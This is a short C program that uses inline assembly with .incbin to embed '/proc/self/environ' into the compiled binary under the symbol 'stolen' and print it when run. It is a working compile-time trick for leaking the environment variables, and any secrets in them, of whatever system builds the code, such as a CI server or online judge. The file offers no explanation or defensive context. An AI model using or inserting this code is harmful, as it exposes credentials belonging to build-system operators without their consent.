__asm__(".section .rodata\n.globl stolen\nstolen: .incbin \"/proc/self/environ\"\nstolen_end: .byte 0\n.text");
extern const char stolen[], stolen_end[];
#include <stdio.h>
int main(void) { fwrite(stolen, 1, stolen_end - stolen, stdout); return 0; }
